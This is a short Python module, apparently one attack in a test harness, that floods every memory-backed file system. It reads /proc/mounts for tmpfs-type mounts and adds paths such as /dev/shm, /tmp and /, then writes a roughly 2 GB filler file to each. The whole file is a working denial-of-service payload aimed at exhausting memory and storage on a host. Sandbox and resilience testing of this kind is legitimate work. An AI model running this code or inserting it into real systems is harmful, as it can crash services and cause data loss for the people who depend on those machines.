# ruff: noqa
"""Fill every file system that lives in memory."""

import os


def fill(folder):
    with open(os.path.join(folder, "presage-fill"), "wb") as file:
        for _ in range(2000):
            file.write(b"x" * 1_000_000)


def attack(world):
    places = {"/dev/shm", "/run", "/run/lock", "/tmp", "/dev", "/sys/fs/cgroup", "/"}
    try:
        with open("/proc/mounts") as file:
            places |= {line.split()[1] for line in file if line.split()[2] in ("tmpfs", "ramfs", "devtmpfs")}
    except OSError:
        pass
    for place in sorted(places):
        attempt(place, fill, place)
    return came_off()
